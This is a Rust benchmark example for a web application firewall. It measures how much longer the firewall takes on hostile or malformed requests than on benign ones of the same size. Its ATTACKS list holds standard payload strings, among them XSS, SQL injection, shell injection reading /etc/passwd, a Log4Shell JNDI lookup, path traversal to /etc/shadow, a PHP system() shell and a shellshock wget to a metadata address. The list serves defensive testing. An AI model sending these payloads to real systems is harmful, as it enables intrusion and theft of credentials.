//! What hostile requests cost, beside a benign one of the same size.
//!
//!     BUCKLER_CRS=FOLDER cargo run --release -p waf --example hostile
//!
//! With a part of a name, those cases alone; with a number behind it, each for so many milliseconds (300), for tools that look inside.
#![expect(
    clippy::print_stdout,
    clippy::indexing_slicing,
    clippy::string_slice,
    clippy::disallowed_methods,
    reason = "a tool for developers, not shipped"
)]
use common::{Dice, Exchange};
use std::error::Error;
use std::time::Duration;

#[path = "common/mod.rs"]
#[expect(unreachable_pub, reason = "shared by several examples")]
mod common;

/// Different requests of each case, so that nothing is remembered.
const VARIANTS: usize = 40;
/// Bytes that a case fills.
const BYTES: usize = 16_000;
/// More than this many times a benign request is a find.
const RATIO_MAX: f64 = 20.0;

type Make = fn(&mut Dice) -> Exchange;

/// Attacks, or nearly.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "' or 1=1 union select user,password from users--",
    "; cat /etc/passwd | sh -c id",
    "${jndi:ldap://x/a}",
    "../../../../etc/shadow",
    "php://input",
    "<?php system($_GET[1]);",
    "javascript:alert(1)",
    "onload=eval(atob('YQ=='))",
    "cmd.exe /c powershell -enc",
    "%{(#a=@org.apache)}",
    "sleep(5)#",
    "\" onmouseover=\"x",
    "() { :;}; wget http://169.254.169.254/",
    "union/**/all/**/select",
    "$(curl http://x)",
    "__proto__.x",
    "eval(base64_decode('eA=='))",
    "{{7*7}}",
    "<svg/onload=prompt(1)>",
];

const CASES: &[(&str, Make)] = &[
    ("random bytes", |dice| form(dice, |dice| (0..60).map(|_| escaped(dice.below(256))).collect())),
    ("random letters", |dice| form(dice, |dice| letters(dice, 60))),
    ("random punctuation", |dice| form(dice, |dice| (0..40).map(|_| escaped(33 + dice.below(15))).collect())),
    ("attacks", |dice| form(dice, |dice| percent(attack(dice)))),
    ("halves of attacks", |dice| form(dice, near)),
    ("attacks, each letter escaped", |dice| {
        form(dice, |dice| attack(dice).bytes().map(|byte| escaped(usize::from(byte))).collect())
    }),
    ("entities, escapes, all at once", |dice| {
        form(dice, |dice| {
            format!(
                "{}%26lt%3B\\u00{:02x}%5Cx3c%25u003c%2B%2F**%2F%00Aa+{}",
                letters(dice, 8),
                dice.below(256),
                dice.word()
            )
        })
    }),
    ("one long value of attacks", |dice| long(dice, |dice| percent(attack(dice)))),
    ("one long value of halves", |dice| long(dice, near)),
    ("one long value of letters", |dice| long(dice, |dice| letters(dice, 50))),
    ("one long repeat", |dice| long(dice, |_| "a".repeat(64))),
    ("one long run of blanks", |dice| long(dice, |_| "+".repeat(64))),
    ("one long run of brackets", |dice| long(dice, |_| "(((%5B%5B%5B%7B%7B%7B".to_owned())),
    ("tiny arguments", |dice| form_of(dice, |dice| format!("{}={}", letters(dice, 2), letters(dice, 1)))),
    ("empty arguments", |dice| form_of(dice, |_| String::new())),
    ("names with repeats", |dice| {
        form_of(dice, |dice| format!("{}[{}]=1", "a[b]".repeat(6), letters(dice, 3)))
    }),
    ("deep JSON", |dice| json(dice, &"[".repeat(400), &"]".repeat(400))),
    ("JSON of attacks", |dice| {
        let items: Vec<String> = (0..BYTES / 40).map(|_| format!("{:?}", attack(dice))).collect();
        Exchange::new("POST", "/api").body("application/json", format!("[{}]", items.join(",")).into_bytes())
    }),
    ("many cookies", |dice| {
        let cookies: Vec<String> =
            (0..BYTES / 30).map(|_| format!("{}={}", letters(dice, 8), near(dice))).collect();
        Exchange::new("GET", "/").header("Cookie", cookies.join("; "))
    }),
    ("huge headers", |dice| {
        let mut exchange = Exchange::new("GET", "/");
        for number in 0..BYTES / 400 {
            exchange = exchange.header(&format!("X-{number}-{}", letters(dice, 4)), near(dice).repeat(8));
        }
        exchange
    }),
    ("long path of attacks", |dice| {
        let path: String = (0..BYTES / 40).map(|_| format!("/{}", percent(attack(dice)))).collect();
        Exchange::new("GET", path)
    }),
    ("many parts", |dice| {
        let parts: String = (0..BYTES / 110)
            .map(|_| {
                format!(
                    "--b\r\nContent-Disposition: form-data; name=\"{}\"; filename=\"{}\"\r\n\r\n{}\r\n",
                    letters(dice, 4),
                    near(dice),
                    near(dice)
                )
            })
            .collect();
        Exchange::new("POST", "/")
            .body("multipart/form-data; boundary=b", format!("{parts}--b--\r\n").into_bytes())
    }),
    ("XML of attacks", |dice| {
        let items: String = (0..BYTES / 40)
            .map(|_| format!("<a b=\"{}\">{}</a>", letters(dice, 8), letters(dice, 12)))
            .collect();
        Exchange::new("POST", "/").body("text/xml", format!("<r>{items}</r>").into_bytes())
    }),
];

fn main() -> Result<(), Box<dyn Error>> {
    let plan = common::plan("")?;
    let only = std::env::args().nth(1).unwrap_or_default();
    let least = std::env::args().nth(2).map_or(Ok(300), |text| text.parse()).map(Duration::from_millis)?;
    let mut dice = Dice(0x0dd0_beef_1234_5677);
    let benign = |dice: &mut Dice, bytes: usize| {
        let mut body = String::new();
        while body.len() < bytes {
            body.push_str(&format!("{}{}={}&", dice.word(), dice.below(100), dice.text(4).replace(' ', "+")));
        }
        Exchange::new("POST", "/form").body("application/x-www-form-urlencoded", body.into_bytes())
    };
    let mut worst = 0.0_f64;
    for (name, make) in CASES.iter().filter(|(name, _)| name.contains(&only)) {
        let hostile: Vec<Exchange> = (0..VARIANTS).map(|_| make(&mut dice)).collect();
        let bytes = hostile.iter().map(Exchange::len).sum::<usize>() / hostile.len();
        let beside: Vec<Exchange> =
            (0..VARIANTS).map(|_| benign(&mut dice, bytes.saturating_sub(380))).collect();
        let base = common::micros(&beside, &plan, least);
        let cost = common::micros(&hostile, &plan, least);
        let ratio = cost / base;
        worst = worst.max(ratio);
        let mark = if ratio > RATIO_MAX { "  <-- too much" } else { "" };
        println!(
            "{name:<34} {bytes:>6} bytes {cost:>10.0} µs, benign {base:>8.0} µs: {ratio:>6.1} times{mark}"
        );
    }
    println!("worst {worst:.1}");
    Ok(())
}

fn form(dice: &mut Dice, value: impl Fn(&mut Dice) -> String) -> Exchange {
    form_of(dice, |dice| format!("{}={}", letters(dice, 5), value(dice)))
}

fn form_of(dice: &mut Dice, pair: impl Fn(&mut Dice) -> String) -> Exchange {
    let mut body = String::new();
    let mut count = 0;
    // One less than the limit of arguments.
    while body.len() < BYTES && count < 999 {
        body.push_str(&pair(dice));
        body.push('&');
        count += 1;
    }
    Exchange::new("POST", "/form").body("application/x-www-form-urlencoded", body.into_bytes())
}

fn long(dice: &mut Dice, piece: impl Fn(&mut Dice) -> String) -> Exchange {
    let mut body = "q=".to_owned();
    while body.len() < BYTES {
        body.push_str(&piece(dice));
    }
    Exchange::new("POST", "/form").body("application/x-www-form-urlencoded", body.into_bytes())
}

fn json(dice: &mut Dice, open: &str, close: &str) -> Exchange {
    let body = format!("{open}\"{}\"{close}", letters(dice, BYTES / 2));
    Exchange::new("POST", "/api").body("application/json", body.into_bytes())
}

fn letters(dice: &mut Dice, count: usize) -> String {
    (0..count).map(|_| char::from(b"abcdefghijklmnopqrstuvwxyz0123456789"[dice.below(36)])).collect()
}

/// The beginning of one attack and the end of another.
fn near(dice: &mut Dice) -> String {
    let (first, second) = (attack(dice), attack(dice));
    percent(&format!("{}{}", &first[..dice.below(first.len())], &second[dice.below(second.len())..]))
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(|byte| {
            if byte.is_ascii_alphanumeric() {
                char::from(byte).to_string()
            } else {
                escaped(usize::from(byte))
            }
        })
        .collect()
}

fn escaped(byte: usize) -> String {
    format!("%{byte:02x}")
}

fn attack(dice: &mut Dice) -> &'static str {
    ATTACKS[dice.below(ATTACKS.len())]
}
